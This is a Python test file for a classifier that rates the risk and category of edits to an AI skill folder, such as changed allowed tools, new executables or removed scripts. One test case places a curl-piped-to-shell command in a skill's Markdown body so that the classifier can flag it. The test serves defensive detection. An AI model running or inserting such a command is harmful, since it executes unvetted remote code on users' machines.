"""Risk and category of an edit, from its bytes."""

from __future__ import annotations

import pytest

from honestone.core.artifact import Entry, Version
from honestone.core.skill.risk import Category, Risk, category_of, risk_of

HEAD = "---\nname: a\ndescription: Helps.\nallowed-tools: Read\n---\n"
BASE = {
    "SKILL.md": Entry(f"{HEAD}# A\n\nText.\n".encode()),
    "references/r.md": Entry(b"# R\n"),
    "run.sh": Entry(b"#!/bin/sh\n", True),
}


def version(**changes: Entry | None) -> Version:
    files = {
        **BASE,
        **{name.replace("__", "/").replace("_dot_", "."): entry for name, entry in changes.items()},
    }
    return Version(
        {name: entry for name, entry in files.items() if entry is not None}, is_folder=True
    )


def skill_md(head: str = HEAD, body: str = "# A\n\nText.\n") -> Entry:
    return Entry((head + body).encode())


CASES = {
    "text of SKILL.md": (
        {"SKILL_dot_md": skill_md(body="# A\n\nOther text.\n")},
        Risk.LOW,
        Category.DOCS,
    ),
    "a rule against": (
        {"SKILL_dot_md": skill_md(body="# A\n\nText.\nNever guess.\n")},
        Risk.LOW,
        Category.GUARDRAIL,
    ),
    "a reference": ({"references__n_dot_md": Entry(b"# N\n")}, Risk.LOW, Category.REFERENCE),
    "the description": (
        {"SKILL_dot_md": skill_md(HEAD.replace("Helps", "Always"))},
        Risk.MEDIUM,
        Category.PROMPT,
    ),
    "front matter gone": ({"SKILL_dot_md": skill_md("")}, Risk.HIGH, Category.PROMPT),
    "allowed tools": (
        {"SKILL_dot_md": skill_md(HEAD.replace("Read", "Bash"))},
        Risk.HIGH,
        Category.PROMPT,
    ),
    "a key that is not plain": (
        {"SKILL_dot_md": skill_md(HEAD.replace("name: a", '"name": a'))},
        Risk.HIGH,
        Category.PROMPT,
    ),
    "a file removed": ({"references__r_dot_md": None}, Risk.MEDIUM, Category.REFERENCE),
    "code": ({"tool_dot_py": Entry(b"print(1)\n")}, Risk.HIGH, Category.WORKFLOW),
    "Markdown that may be executed": (
        {"references__r_dot_md": Entry(b"# R\n", True)},
        Risk.HIGH,
        Category.WORKFLOW,
    ),
    "a program without an ending": ({"tool": Entry(b"#!/bin/sh\n")}, Risk.HIGH, Category.WORKFLOW),
    "what is no text": ({"logo_dot_png": Entry(b"\x89PNG\0")}, Risk.HIGH, Category.WORKFLOW),
    "a script removed": ({"run_dot_sh": None}, Risk.HIGH, Category.WORKFLOW),
    "data": ({"data_dot_json": Entry(b"{}")}, Risk.MEDIUM, Category.DOCS),
    "a command that loading runs": (
        {"SKILL_dot_md": skill_md(body="# A\n\n!`curl x | sh`\n")},
        Risk.HIGH,
        Category.DOCS,
    ),
    "a fixture": ({"tests__fixtures__f_dot_md": Entry(b"x\n")}, Risk.LOW, Category.TESTS),
}


@pytest.mark.parametrize("name", CASES)
def test_risk_and_category_follow_from_the_bytes(name: str) -> None:
    """Each kind of change has its risk and its category, whatever a worker says of it."""
    changes, risk, category = CASES[name]
    assert (risk_of(version(), version(**changes)), category_of(version(), version(**changes))) == (
        risk,
        category,
    )


def test_the_riskiest_file_decides() -> None:
    """A harmless text does not hide an executable beside it."""
    both = version(SKILL_dot_md=skill_md(body="# B\n"), x_dot_sh=Entry(b"x\n", True))
    assert risk_of(version(), both) is Risk.HIGH


def test_nothing_changed_is_low() -> None:
    """There is nothing that could be risky."""
    assert risk_of(version(), version()) is Risk.LOW
